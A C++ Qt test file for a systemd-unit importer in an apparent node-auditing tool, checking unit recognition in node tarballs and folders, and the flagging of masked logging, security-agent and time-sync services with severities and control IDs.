                             "worker-1/lib/systemd/system/ssh.service", "worker-1/usr/lib/systemd/system/fstrim.timer",
                             "worker-1/home/deploy/.config/systemd/user/tracker-miner.service",
                             "worker-1/root/.config/systemd/user/tracker-miner.service"}) {
        const QString p = QStringLiteral("nodes.tar.gz/") + QLatin1String(path);
        QCOMPARE(LogLayout::recognize(p).node, QStringLiteral("worker-1"));
    }

    // Through an import of the node's tarball: found by content, under worker-1,
    // a user's unit with its owner; the kubelet's drop-in to kubelet-flags.
    const ImportedResources imported = importTarball(QVector<QPair<QString, QByteArray>>{
        {QStringLiteral("worker-1/etc/systemd/system/dbus-update.service"), fixture("dbus-update.service")},
        {QStringLiteral("worker-1/etc/systemd/system/containerd.service.d/override.conf"), fixture("override.conf")},
        {QStringLiteral("worker-1/lib/systemd/system/ssh.service"), fixture("ssh.service")},
        {QStringLiteral("worker-1/usr/lib/systemd/system/fstrim.timer"), fixture("fstrim.timer")},
        {QStringLiteral("worker-1/home/deploy/.config/systemd/user/tracker-miner.service"),
         fixture("tracker-miner.service")},
        {QStringLiteral("worker-1/etc/systemd/system/kubelet.service.d/10-kubeadm.conf"),
         readFile(dataPath(QStringLiteral("kubelet-flags/10-kubeadm.conf")))}});
    QVERIFY2(imported.error.isEmpty(), qPrintable(imported.error));
    QCOMPARE(imported.resources, 6);
    QCOMPARE(imported.names(QStringLiteral("SystemdUnit")),
             (QStringList{QStringLiteral("worker-1/containerd.service.d/override.conf"),
                          QStringLiteral("worker-1/dbus-update.service"), QStringLiteral("worker-1/fstrim.timer"),
                          QStringLiteral("worker-1/ssh.service"), QStringLiteral("worker-1/tracker-miner.service")}));
    QCOMPARE(imported.bodies.value(QStringLiteral("worker-1/tracker-miner.service"))
                 .value(QStringLiteral("owner"))
                 .toString(),
             QStringLiteral("deploy"));
    QCOMPARE(imported.names(QStringLiteral("KubeletFlags")).size(), qsizetype(1));
}

void TestSystemdUnitImporter::sniff_data()
{
    QTest::addColumn<QByteArray>("head");
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("kind"); // the importer the registry picks, "" for none
    const QString unit = QStringLiteral("systemd-unit");
    for (const QString& f : QDir(dataPath(QStringLiteral("systemd-unit"))).entryList(QDir::Files, QDir::Name))
        QTest::newRow(qPrintable(f)) << readFile(dataPath(QStringLiteral("systemd-unit/") + f)) << f << unit;
    QTest::newRow("a mount unit") << QByteArray("[Unit]\nDescription=Data volume\n\n[Mount]\nWhat=/dev/sdb1\n"
                                                "Where=/data\nType=xfs\n")
                                  << "data.mount" << unit;
    QTest::newRow("a drop-in of one assignment")
        << QByteArray("[Service]\nEnvironment=\"HTTP_PROXY=http://proxy:3128\"\n") << "http-proxy.conf" << unit;
    QTest::newRow("cron's own unit, renamed")
        << QByteArray("[Unit]\nDescription=Regular background program "
                      "processing daemon\n\n[Service]\nEnvironmentFile=-/etc/"
                      "default/cron\nExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS\n")
        << "notes.txt" << unit;

    // The kubelet's units and drop-ins stay the kubelet-flags importer's.
    const QString kubelet = QStringLiteral("kubelet-flags");
    for (const char* f : {"kubelet.service", "eks-kubelet.service", "10-kubeadm.conf", "10-kubelet-args.conf",
                          "30-kubelet-extra-args.conf", "broken-kubelet.service"})
        QTest::newRow(f) << readFile(dataPath(QStringLiteral("kubelet-flags/") + QLatin1String(f)))
                         << QString::fromLatin1(f) << kubelet;
    QTest::newRow("crontab") << readFile(dataPath(QStringLiteral("cron/crontab"))) << "crontab"
                             << QStringLiteral("cron");
    QTest::newRow("sshd_config") << readFile(dataPath(QStringLiteral("sshd-config/sshd_config"))) << "sshd_config"
                                 << QStringLiteral("sshd-config");
    QTest::newRow("sudoers") << readFile(dataPath(QStringLiteral("sudoers/90-cloud-init-users"))) << "sudoers"
                             << QStringLiteral("sudoers");
    // A systemd file's shape, but no unit: journald's settings.
    QTest::newRow("journald.conf") << QByteArray("[Journal]\nStorage=persistent\nSystemMaxUse=1G\n") << "journald.conf"
                                   << QStringLiteral("node-logging");

    // Not units, and nobody's.
    QTest::newRow("environment file") << QByteArray("# Default settings for openssh-server.\nSSHD_OPTS=\n"
                                                    "MAILTO=root\nPATH=/usr/bin:/bin\n")
                                      << "ssh" << QString();
    QTest::newRow("git config") << QByteArray("[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
                                              "[remote \"origin\"]\n\turl = https://git.example/x.git\n")
                                << "config" << QString();
    QTest::newRow("desktop entry") << QByteArray("[Desktop Entry]\nType=Application\nName=Notes\n"
                                                 "Exec=/usr/bin/notes %U\nTerminal=false\n")
                                   << "notes.desktop" << QString();
    QTest::newRow("ini with a [Service]")
        << QByteArray("[Service]\nport = 8080\nhost = 0.0.0.0\nworkers = 4\n") << "app.ini" << QString();
    QTest::newRow("a setting before the header")
        << QByteArray("Description=x\n[Unit]\nAfter=network.target\n") << "x.txt" << QString();
    QTest::newRow("prose") << QByteArray("Put the line in [Service] and set ExecStart= to the binary.\n"
                                         "Then run systemctl daemon-reload.\nThanks\n")
                           << "notes.md" << QString();
    QTest::newRow("empty") << QByteArray() << "x.service" << QString();
    // Empty at an administrator's place of units: the unit masked.
    QTest::newRow("empty in etc/systemd/system")
        << QByteArray() << "w.tar.gz/w/etc/systemd/system/auditd.service" << unit;
    QTest::newRow("empty drop-in") << QByteArray() << "w/etc/systemd/system/auditd.service.d/10-x.conf" << unit;
    QTest::newRow("empty in run") << QByteArray() << "w/run/systemd/system/falco.service" << unit;
    QTest::newRow("empty user unit") << QByteArray() << "w/home/ann/.config/systemd/user/x.timer" << unit;
    QTest::newRow("empty in lib") << QByteArray() << "w/lib/systemd/system/x11-common.service" << QString();
    QTest::newRow("empty in .wants") << QByteArray() << "w/etc/systemd/system/multi-user.target.wants/x.service"
                                     << QString();
    QTest::newRow("empty, not a unit's name") << QByteArray() << "w/etc/systemd/system/README" << QString();
    QTest::newRow("empty elsewhere") << QByteArray() << "w/opt/backup/auditd.service" << QString();
}

void TestSystemdUnitImporter::sniff()
{
    QFETCH(QByteArray, head);
    QFETCH(QString, name);
    QFETCH(QString, kind);
    const bool unit = kind == QLatin1String("systemd-unit");
    if (!head.isEmpty())
        QCOMPARE(SystemdUnitImporter().sniff(head.left(ImportSource::kHeadSize)) == Confidence::Structure, unit);
    else
        QCOMPARE(SystemdUnitImporter().sniffFile(head, name) == Confidence::Signature, unit);
    QCOMPARE(chosenKind(head, name), kind);
}

void TestSystemdUnitImporter::fuzz()
{
    SystemdUnitImporter importer;
    QVERIFY(fuzzImporter(importer, fuzzIterations(), 0x7379) > 0);
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("etc/systemd/system/x.service"), 0x737a));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("home/deploy/.config/systemd/user/x.service"), 0x737b));
}

void TestSystemdUnitImporter::maskedServices_data()
{
    // Each service of the table, masked as `systemctl mask` masks it: a link
    // to /dev/null at /etc/systemd/system/<unit>, in a node's tarball.
    QTest::addColumn<QString>("unit");
    QTest::addColumn<QString>("finding"); // "rule severity controls"
    const QString logging = QStringLiteral("node.systemd.masked-logging %1 CC7.2");
    const QString defence = QStringLiteral("node.systemd.masked-defence %1 CC6.8,CC7.2");
    const QString time = QStringLiteral("node.systemd.masked-time-sync %1 CC7.2");
    for (const char* u :
         {"auditd.service", "systemd-journald.service", "systemd-journald.socket", "systemd-journald-dev-log.socket",
          "systemd-journald-audit.socket", "rsyslog.service", "syslog-ng.service"})
        QTest::newRow(u) << QString::fromLatin1(u) << logging.arg(QLatin1String("high"));
    for (const char* u : {"filebeat.service", "auditbeat.service", "fluent-bit.service", "td-agent-bit.service"})
        QTest::newRow(u) << QString::fromLatin1(u) << logging.arg(QLatin1String("medium"));
    QTest::newRow("falcon-sensor.service") << "falcon-sensor.service" << defence.arg(QLatin1String("high"));
    for (const char* u :
         {"wazuh-agent.service", "osqueryd.service", "falco.service", "falco-modern-bpf.service", "falco-bpf.service",
          "falco-kmod.service", "dragent.service", "apparmor.service", "fail2ban.service", "dailyaidecheck.timer",
          "aidecheck.timer", "clamav-freshclam.service", "clamav-daemon.service", "unattended-upgrades.service",
          "apt-daily-upgrade.timer", "apt-daily-upgrade.service"})
        QTest::newRow(u) << QString::fromLatin1(u) << defence.arg(QLatin1String("medium"));
    for (const char* u : {"chrony.service", "chronyd.service", "ntp.service", "ntpd.service"})
        QTest::newRow(u) << QString::fromLatin1(u) << time.arg(QLatin1String("medium"));
    QTest::newRow("systemd-timesyncd.service") << "systemd-timesyncd.service" << time.arg(QLatin1String("low"));
    // Not on the list: evidence, no more.
    for (const char* u : {"getty@tty1.service", "kubelet.service", "ssh.socket", "sleep.target", "data.mount",
                          "apt-daily.timer", "motd-news.path"})
        QTest::newRow(u) << QString::fromLatin1(u) << QStringLiteral("node.systemd.masked info CC7.2");
}

void TestSystemdUnitImporter::maskedServices()
{
    QFETCH(QString, unit);
    QFETCH(QString, finding);
    const MaskedCase c = importMaskedTarball({{QStringLiteral("worker-1/etc/systemd/system/") + unit, "-> /dev/null"},
                                              {QStringLiteral("worker-1/etc/hostname"), "worker-1\n"}});
    QVERIFY2(c.error.isEmpty(), qPrintable(c.error));
    const QStringList parts = finding.split(QLatin1Char(' '));
    QCOMPARE(c.findings,
             QStringList{QStringLiteral("%1 %2 SystemdUnit worker-1/%3 %4").arg(parts[0], parts[1], unit, parts[2])});
    // A defence switched off fails; any other unit masked is evidence.
    QCOMPARE(c.statuses, QStringList{parts[0] == QLatin1String("node.systemd.masked") ? QStringLiteral("info")
                                                                                      : QStringLiteral("fail")});
    // The detail names the unit's place, the link, and why it matters.
    QVERIFY(c.details[0].startsWith(QStringLiteral("/etc/systemd/system/") + unit + " is a link to /dev/null"));
    if (unit == QLatin1String("auditd.service"))
        QVERIFY(c.details[0].contains(QLatin1String("auditd can never start: the node keeps no audit trail")));
    const QJsonObject body = c.bodies.value(QStringLiteral("worker-1/") + unit);
    QCOMPARE(body.value(QStringLiteral("masked")).toString(), QStringLiteral("link to /dev/null"));
    QCOMPARE(body.value(QStringLiteral("linkTo")).toString(), QStringLiteral("/dev/null"));
    QCOMPARE(body.value(QStringLiteral("unit")).toString(), unit);
    QCOMPARE(body.value(QStringLiteral("path")).toString(), QStringLiteral("/etc/systemd/system/") + unit);
    QVERIFY(!body.contains(QStringLiteral("commands")));
    QCOMPARE(c.skippedLinks, QStringList());
}

void TestSystemdUnitImporter::maskedByPlace_data()
{
    // Where a link lies and what it points at: taken (a SystemdUnit resource
    // saying masked, the finding given) or skipped as any link.
    QTest::addColumn<QString>("path");
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("resource"); // "node/name" of the masked resource, "" when skipped
    QTest::addColumn<QString>("finding");  // "rule severity", "" for none
    QTest::newRow("etc") << "worker-1/etc/systemd/system/auditd.service" << QByteArray("-> /dev/null")
                         << "worker-1/auditd.service"
                         << "node.systemd.masked-logging high";
    QTest::newRow("run: systemctl mask --runtime")
        << "worker-1/run/systemd/system/auditd.service" << QByteArray("-> /dev/null") << "worker-1/auditd.service"
        << "node.systemd.masked-logging high";
    QTest::newRow("every user's units") << "worker-1/etc/systemd/user/pipewire.service" << QByteArray("-> /dev/null")
                                        << "worker-1/pipewire.service"
                                        << "node.systemd.masked info";
    // A user's manager is not the system's: its auditd.service is only a name.
    QTest::newRow("a user's own") << "worker-1/home/deploy/.config/systemd/user/auditd.service"
                                  << QByteArray("-> /dev/null") << "worker-1/auditd.service"
                                  << "node.systemd.masked info";
    QTest::newRow("a drop-in") << "worker-1/etc/systemd/system/auditd.service.d/50-hardening.conf"
                               << QByteArray("-> /dev/null") << "worker-1/auditd.service.d/50-hardening.conf"
                               << "";
    QTest::newRow("an empty file in the tarball")
        << "worker-1/etc/systemd/system/osqueryd.service" << QByteArray() << "worker-1/osqueryd.service"
        << "node.systemd.masked-defence medium";
    // Skipped: never followed, and no mask.
    QTest::newRow("a link to another file")
        << "worker-1/etc/systemd/system/auditd.service" << QByteArray("-> /lib/systemd/system/auditd.service") << ""
        << "";
    QTest::newRow("a relative link to /dev/null")
        << "worker-1/etc/systemd/system/auditd.service" << QByteArray("-> ../../../dev/null") << ""
        << "";
    QTest::newRow("a link enabling a unit")
        << "worker-1/etc/systemd/system/multi-user.target.wants/auditd.service" << QByteArray("-> /dev/null") << ""
        << "";
    QTest::newRow("the package's mask in lib")
        << "worker-1/lib/systemd/system/x11-common.service" << QByteArray("-> /dev/null") << ""
        << "";
    QTest::newRow("an unrelated folder") << "worker-1/opt/backup/auditd.service" << QByteArray("-> /dev/null") << ""
                                         << "";
    QTest::newRow("no unit's name") << "worker-1/etc/systemd/system/auditd" << QByteArray("-> /dev/null") << ""
                                    << "";
}

void TestSystemdUnitImporter::maskedByPlace()
{
    QFETCH(QString, path);
    QFETCH(QByteArray, bytes);
    QFETCH(QString, resource);
    QFETCH(QString, finding);
    const MaskedCase c = importMaskedTarball({{path, bytes}, {QStringLiteral("worker-1/etc/hostname"), "worker-1\n"}});
    QVERIFY2(c.error.isEmpty(), qPrintable(c.error));
    QStringList found;
    for (const QString& f : c.findings)
        found << f.section(QLatin1Char(' '), 0, 1);
    QCOMPARE(found, finding.isEmpty() ? QStringList() : QStringList{finding});
    if (resource.isEmpty()) {
        QCOMPARE(c.bodies.size(), 0);
        // Skipped as a link, with its target named; an empty file would have been read.
        if (bytes.startsWith("-> ")) {
            QCOMPARE(c.skippedLinks.size(), 1);
            QVERIFY(c.skippedLinks[0].contains(path + QStringLiteral(" -> ") + QString::fromLatin1(bytes.mid(3))));
        }
        return;
    }
    QCOMPARE(c.bodies.keys(), QStringList{resource});
    const QJsonObject body = c.bodies.value(resource);
    QCOMPARE(body.value(QStringLiteral("masked")).toString(),
             bytes.isEmpty() ? QStringLiteral("empty file") : QStringLiteral("link to /dev/null"));
    QCOMPARE(body.contains(QStringLiteral("linkTo")), !bytes.isEmpty());
    QCOMPARE(body.value(QStringLiteral("dropIn")).toBool(), resource.contains(QLatin1String(".d/")));
    QCOMPARE(body.value(QStringLiteral("path")).toString(), path.mid(path.indexOf(QLatin1Char('/'))));
    QVERIFY(!body.contains(QStringLiteral("commands")));
}

void TestSystemdUnitImporter::maskWinsOverThePackagesFile_data()
{
    QTest::addColumn<bool>("linkFirst");
    QTest::newRow("the link before the package's file") << true;
    QTest::newRow("the package's file before the link") << false;
}

void TestSystemdUnitImporter::maskWinsOverThePackagesFile()
{
    // /lib/systemd/system/auditd.service is in the archive too: the link in
    // /etc still masks it, whichever comes first, and the unit shows masked.
    QFETCH(bool, linkFirst);
    QVector<QPair<QString, QByteArray>> members{
        {QStringLiteral("worker-1/lib/systemd/system/auditd.service"),
         readFile(dataPath(QStringLiteral("systemd-unit/masked/worker-1/lib/systemd/system/auditd.service")))}};
    const QPair<QString, QByteArray> link{QStringLiteral("worker-1/etc/systemd/system/auditd.service"), "-> /dev/null"};
    if (linkFirst)
        members.prepend(link);
    else
        members.append(link);
    const MaskedCase c = importMaskedTarball(members);
    QVERIFY2(c.error.isEmpty(), qPrintable(c.error));
    QCOMPARE(c.findings,
             QStringList{QStringLiteral("node.systemd.masked-logging high SystemdUnit worker-1/auditd.service CC7.2")});
    const QJsonObject body = c.bodies.value(QStringLiteral("worker-1/auditd.service"));
    QCOMPARE(body.value(QStringLiteral("masked")).toString(), QStringLiteral("link to /dev/null"));
    QCOMPARE(body.value(QStringLiteral("path")).toString(), QStringLiteral("/etc/systemd/system/auditd.service"));
}

void TestSystemdUnitImporter::maskedOnDisk()
{
    // A node's files copied to a folder: zero-length files, which systemd reads
    // as masked (a unit, and a drop-in); a file of comments alone is no mask;
    // an empty file outside a unit's place is skipped. Each empty file is read,
    // never dropped as a copy of another.
    QTemporaryDir dir;
    const MaskedCase c =
        importMasks({dataPath(QStringLiteral("systemd-unit/masked"))}, dir.filePath(QStringLiteral("case.auditcase")));
    QVERIFY2(c.error.isEmpty(), qPrintable(c.error));
    QCOMPARE(c.findings,
             QStringList{QStringLiteral("node.systemd.masked-logging high SystemdUnit worker-1/auditd.service CC7.2")});
    QVERIFY(c.details[0].startsWith(QLatin1String("/etc/systemd/system/auditd.service is an empty file")));
    QCOMPARE(c.bodies.value(QStringLiteral("worker-1/auditd.service")).value(QStringLiteral("masked")).toString(),
             QStringLiteral("empty file"));
    const QJsonObject dropIn = c.bodies.value(QStringLiteral("worker-1/docker.service.d/http-proxy.conf"));
    QCOMPARE(dropIn.value(QStringLiteral("masked")).toString(), QStringLiteral("empty file"));
    QCOMPARE(dropIn.value(QStringLiteral("dropIn")).toBool(), true);
    QVERIFY(!c.bodies.contains(QStringLiteral("worker-1/fail2ban.service")));
    QVERIFY(!c.bodies.contains(QStringLiteral("worker-1/rsyslog.service")));
}

void TestSystemdUnitImporter::maskInAZip()
{
    // A zip read as a stream does not say which entries are links: the link's
    // target reads as its text ("/dev/null"), which is no unit. No mask is seen,
    // and nothing false either.
    QTemporaryDir dir;
    const QString zip = dir.filePath(QStringLiteral("worker-1.zip"));
    writeFile(zip, archiveBytes(
                       ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE,
                       {{QStringLiteral("worker-1/etc/systemd/system/auditd.service"), "-> /dev/null"},
                        {QStringLiteral("worker-1/etc/systemd/system/x.service"), "[Service]\nExecStart=/usr/bin/x\n"}},
                       1715731200, MemberTypes::FoldersAndLinks));
    const MaskedCase c = importMasks({zip}, dir.filePath(QStringLiteral("case.auditcase")));
    QVERIFY2(c.error.isEmpty(), qPrintable(c.error));
    QCOMPARE(c.findings, QStringList());
    QCOMPARE(c.bodies.keys(), QStringList{QStringLiteral("worker-1/x.service")});
}

void TestSystemdUnitImporter::manyMasksAreEachRead()
{
    // 300 units masked on each of two nodes: every link read as its own mask
    // (the same empty bytes, never a duplicate), the findings each their own.
    QVector<QPair<QString, QByteArray>> members;
    for (const char* node : {"worker-1", "worker-2"}) {
        for (int i = 0; i < 300; ++i)
            members.push_back({QStringLiteral("%1/etc/systemd/system/unit-%2.service").arg(QLatin1String(node)).arg(i),
                               "-> /dev/null"});
        members.push_back(
            {QStringLiteral("%1/etc/systemd/system/auditd.service").arg(QLatin1String(node)), "-> /dev/null"});
    }
    const MaskedCase c = importMaskedTarball(members);
    QVERIFY2(c.error.isEmpty(), qPrintable(c.error));
    QCOMPARE(c.bodies.size(), 602);
    QCOMPARE(c.findings.size(), 602);
    QCOMPARE(c.findings.filter(QStringLiteral("masked-logging high")).size(), 2);
}

QTEST_GUILESS_MAIN(TestSystemdUnitImporter)
#include "TestSystemdUnitImporter.moc"
